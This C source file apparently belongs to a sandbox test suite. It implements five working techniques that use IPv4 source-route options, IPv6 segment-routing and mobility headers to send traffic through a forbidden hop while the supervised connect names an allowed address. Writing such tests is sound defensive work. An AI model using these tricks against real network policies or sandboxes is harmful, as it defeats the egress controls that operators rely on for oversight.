/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * A connection to an allowed address by way of a forbidden one: with a source route set on the
 * socket, the packets themselves are addressed to the first hop, and the connect(2) that is
 * supervised names the last. Needs no privilege.
 *
 *	source-route loose|strict ALLOWED HOP		IPv4, IP_OPTIONS
 *	source-route control ALLOWED HOP		IPv4, in the control data of a datagram
 *	source-route segments ALLOWED HOP		IPv6, segment routing header
 *	source-route control6 ALLOWED HOP		IPv6, mobility's header in the control data
 *of a datagram
 *
 * Success is that the option is taken and the SYN sent; whether it arrived at the hop is for the
 * witness to say.
 */

#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

static int send_syn(int fd, const struct place *place)
{
	struct pollfd wait = {.fd = fd, .events = POLLOUT};

	fcntl(fd, F_SETFL, O_NONBLOCK);
	if (connect(fd, (const struct sockaddr *)&place->address, place->length) < 0 &&
		errno != EINPROGRESS)
		return stopped_by("connect");
	poll(&wait, 1, 300);
	return succeeded("the first packet is on its way");
}

static struct place hop_parse(const char *text)
{
	char with_port[128];

	need(strlen(text) < sizeof(with_port) - 8, text);
	return place_parse(strcat(strcpy(with_port, text), ":0"));
}

/* A no-operation for alignment, then kind, length, pointer, one address. */
static void fill_option(unsigned char option[8], unsigned char kind, const char *hop_text)
{
	struct place hop = hop_parse(hop_text);

	memcpy(option, (unsigned char[]){IPOPT_NOP, kind, 7, 4}, 4);
	memcpy(option + 4, &((struct sockaddr_in *)&hop.address)->sin_addr, 4);
}

static int by_ip_options(char **args, unsigned char kind)
{
	struct place place = place_parse(args[0]);
	unsigned char option[8];
	int fd = place_socket(&place, SOCK_STREAM);

	need(fd >= 0, "socket");
	fill_option(option, kind, args[1]);
	if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, option, sizeof(option)) < 0)
		return stopped_by("setsockopt IP_OPTIONS");
	return send_syn(fd, &place);
}

static int loose(char **args)
{
	return by_ip_options(args, IPOPT_LSRR);
}

static int strict(char **args)
{
	return by_ip_options(args, IPOPT_SSRR);
}

static int send_datagram(const char *to, int level, int type, const void *data, size_t size)
{
	struct place place = place_parse(to);
	char letter[] = "out of the cage", control[CMSG_SPACE(64)] = {0};
	struct iovec iov = {letter, sizeof(letter)};
	struct msghdr message = {.msg_name = &place.address,
		.msg_namelen = place.length,
		.msg_iov = &iov,
		.msg_iovlen = 1,
		.msg_control = control,
		.msg_controllen = CMSG_SPACE(size)};
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);
	int fd = place_socket(&place, SOCK_DGRAM);

	need(fd >= 0, "socket");
	header->cmsg_level = level;
	header->cmsg_type = type;
	header->cmsg_len = CMSG_LEN(size);
	memcpy(CMSG_DATA(header), data, size);
	if (sendmsg(fd, &message, 0) < 0)
		return stopped_by("sendmsg");
	return succeeded("the datagram is on its way");
}

static int by_control(char **args)
{
	unsigned char option[8];

	fill_option(option, IPOPT_LSRR, args[1]);
	return send_datagram(args[0], SOL_IP, IP_RETOPTS, option, sizeof(option));
}

/* RFC 8754; segments last first, the kernel fills in the end. */
struct segments {
	unsigned char next_header, length, type, segments_left, last_entry, flags, tag[2];
	struct in6_addr list[2];
};

static struct segments fill_segments(const char *hop_text)
{
	struct place hop = hop_parse(hop_text);
	struct segments route = {.length = 4, .type = 4, .segments_left = 1, .last_entry = 1};

	route.list[1] = ((struct sockaddr_in6 *)&hop.address)->sin6_addr;
	return route;
}

static int by_control6(char **args)
{
	/* RFC 6275, the one kind that control data may hold: datagram_send_ctl(). */
	struct {
		unsigned char next_header, length, type, segments_left, reserved[4];
		struct in6_addr home;
	} route = {.length = 2, .type = 2, .segments_left = 1};
	struct place hop = hop_parse(args[1]);

	int r;

	route.home = ((struct sockaddr_in6 *)&hop.address)->sin6_addr;
	r = send_datagram(args[0], SOL_IPV6, IPV6_RTHDR, &route, sizeof(route));
	/* CONFIG_IPV6_MIP6 */
	return r == STOPPED && errno == EINVAL ? stopped("mobility not supported") : r;
}

static int segments(char **args)
{
	struct place place = place_parse(args[0]);
	struct segments route = fill_segments(args[1]);
	int fd = place_socket(&place, SOCK_STREAM);

	need(fd >= 0, "socket");
	if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, &route, sizeof(route)) < 0)
		return stopped_by("setsockopt IPV6_RTHDR");
	return send_syn(fd, &place);
}

static const struct trick tricks[] = {
	{"loose", loose, 2},
	{"strict", strict, 2},
	{"control", by_control, 2},
	{"control6", by_control6, 2},
	{"segments", segments, 2},
};

int main(int argc, char **argv)
{
	return trick_run(tricks, ARRAY_SIZE(tricks), argc, argv);
}
